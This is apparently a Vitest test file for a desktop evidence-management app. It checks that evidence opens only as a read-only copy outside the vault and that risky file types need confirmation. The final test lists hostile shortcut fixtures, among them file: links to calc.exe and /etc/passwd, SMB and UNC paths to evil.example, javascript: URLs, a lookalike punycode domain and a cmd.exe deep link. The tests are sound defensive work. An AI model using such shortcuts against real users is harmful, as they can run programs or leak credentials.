import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { startTestCore, tempDir } from '../helpers/core';
import { importFile } from '../../electron/core/evidence';
import { createEngagement } from '../../electron/core/engagements';

async function setup(fileName: string) {
  const core = await startTestCore();
  const engagement = createEngagement(core.ctx, {
    clientName: 'Open Ltd',
    aimsScope: 'x',
    aiRoles: [],
    sites: [],
    leadAssessor: 'L',
    startDate: null,
    endDate: null,
    notes: '',
  });
  const source = path.join(tempDir(), fileName);
  fs.writeFileSync(source, 'echo hello\n');
  const item = await importFile(core.ctx, source, { engagementId: engagement.id });
  return { core, item };
}

describe('opening evidence with the system application', () => {
  it('is unavailable outside the desktop app', async () => {
    const { core, item } = await setup('policy.txt');
    const result = await core.dispatcher.dispatch('evidence.openExternal', { id: item.id });
    expect(result.ok ? 'ok' : result.error.code).toBe('UNAVAILABLE');
    core.close();
  });

  it('opens a read-only copy outside the vault, never the stored object', async () => {
    const { core, item } = await setup('policy.txt');
    const opened: string[] = [];
    core.ctx.platform.openPath = async (file) => {
      opened.push(file);
      return '';
    };
    const result = await core.dispatcher.dispatch('evidence.openExternal', { id: item.id });
    expect(result.ok).toBe(true);
    expect(opened).toHaveLength(1);
    const file = opened[0] ?? '';
    expect(file.startsWith(path.join(core.dataDir, 'opened'))).toBe(true);
    expect(file.includes(`${path.sep}vault${path.sep}`)).toBe(false);
    expect(fs.readFileSync(file, 'utf8')).toBe('echo hello\n');
    expect(fs.statSync(file).mode & 0o222).toBe(0);
    core.close();
  });

  it('asks before opening a type the system would run, and opens only when confirmed', async () => {
    const { core, item } = await setup('install.sh');
    const opened: string[] = [];
    core.ctx.platform.openPath = async (file) => {
      opened.push(file);
      return '';
    };
    const first = await core.dispatcher.dispatch('evidence.openExternal', { id: item.id });
    expect(first.ok && (first.value as { needsConfirmation: boolean }).needsConfirmation).toBe(
      true,
    );
    expect(opened).toHaveLength(0);
    const second = await core.dispatcher.dispatch('evidence.openExternal', {
      id: item.id,
      confirmed: true,
    });
    expect(second.ok && (second.value as { opened: boolean }).opened).toBe(true);
    expect(opened).toHaveLength(1);
    core.close();
  });

  it('asks before opening a shortcut that would send the system to a URL (file:, smb:, javascript:)', async () => {
    const { core } = await setup('policy.txt');
    const opened: string[] = [];
    core.ctx.platform.openPath = async (file) => {
      opened.push(file);
      return '';
    };
    const engagementId = (
      core.store.sqlite.prepare('SELECT id FROM engagements').get() as { id: string }
    ).id;
    const shortcuts: [string, string][] = [
      ['Board pack.url', '[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n'],
      ['Share.URL', '[InternetShortcut]\nURL=smb://fileserver.evil.example/share\n'],
      [
        'Policy.webloc',
        '<plist><dict><key>URL</key><string>javascript:alert(1)</string></dict></plist>',
      ],
      ['Policy.inetloc', 'https://www.iso.org@evil.example/'],
      ['Site.website', '[InternetShortcut]\nURL=https://xn--pple-43d.com/\n'],
      ['Explorer.scf', '[Shell]\nCommand=2\nIconFile=\\\\evil.example\\x.ico\n'],
      ['Tool.desktop', '[Desktop Entry]\nType=Link\nURL=file:///etc/passwd\n'],
      ['Start.appref-ms', 'https://evil.example/app.application'],
      ['Settings.settingcontent-ms', '<PCSettings><DeepLink>cmd.exe</DeepLink></PCSettings>'],
      ['Search.searchconnector-ms', '<searchConnectorDescription/>'],
      ['Library.library-ms', '<libraryDescription/>'],
      ['Report.hta', '<script>alert(1)</script>'],
      ['Tweak.reg', 'Windows Registry Editor Version 5.00\n'],
      ['Launch.jnlp', '<jnlp codebase="http://evil.example"/>'],
      ['Archive.mht', 'MIME-Version: 1.0\n'],
    ];
    for (const [name, content] of shortcuts) {
      const source = path.join(tempDir(), name);
      fs.writeFileSync(source, content);
      const item = await importFile(core.ctx, source, { engagementId });
      const result = await core.dispatcher.dispatch('evidence.openExternal', { id: item.id });
      expect(
        result.ok && (result.value as { needsConfirmation: boolean }).needsConfirmation,
        name,
      ).toBe(true);
    }
    expect(opened).toEqual([]);
    core.close();
  });
});
